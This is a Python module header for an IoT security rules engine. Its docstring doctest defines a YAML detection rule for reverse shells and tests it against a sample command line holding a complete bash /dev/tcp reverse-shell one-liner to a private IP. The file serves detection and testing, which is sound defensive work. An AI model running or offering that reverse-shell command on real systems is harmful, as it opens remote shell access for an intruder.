"""Detection rules: a declarative YAML language (docs/rules.md) and the engine that runs it.

>>> from datetime import UTC, datetime
>>> from iotsec.analytics import DeviceContext, Observation
>>> ruleset = load_rules_text('''
... rules:
...   - id: Demo_ReverseShell
...     name: Reverse shell
...     severity: High
...     tactic: Execution
...     technique: T1059.004
...     description: "{Executable} opened a reverse shell: {CommandLine}"
...     match:
...       event: ProcessCreate
...       field: CommandLine
...       regex: 'bash +-i *>& */dev/tcp/'
... ''', source="demo.yaml")
>>> engine = RuleEngine(ruleset)
>>> seen = {"Executable": "/bin/bash", "CommandLine": "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"}
>>> obs = Observation("agent", "ProcessCreate", datetime(2025, 1, 1, tzinfo=UTC),
...                   DeviceContext("dev-1"), seen, "e1")
>>> [(d.rule_id, d.dedup_key) for d in engine.observe(obs)]
[('Demo_ReverseShell', 'Demo_ReverseShell|dev-1')]
"""

from iotsec.analytics.rules.catalogue import check_files, load_catalogue
from iotsec.analytics.rules.engine import EngineLimits, RuleEngine
from iotsec.analytics.rules.errors import RuleErrors, RuleWarning
from iotsec.analytics.rules.loader import load_rules, load_rules_text
from iotsec.analytics.rules.model import (
    AllOf,
    AnyOf,
    Condition,
    EventIs,
    FieldTest,
    Not,
    Rule,
    RuleSet,
    Sequence,
    SourceIs,
    SourceLocation,
    Step,
    Suppression,
    Template,
    Threshold,
)

__all__ = [
    "AllOf",
    "AnyOf",
    "Condition",
    "EngineLimits",
    "EventIs",
    "FieldTest",
    "Not",
    "Rule",
    "RuleEngine",
    "RuleErrors",
    "RuleSet",
    "RuleWarning",
    "Sequence",
    "SourceIs",
    "SourceLocation",
    "Step",
    "Suppression",
    "Template",
    "Threshold",
    "check_files",
    "load_catalogue",
    "load_rules",
    "load_rules_text",
]
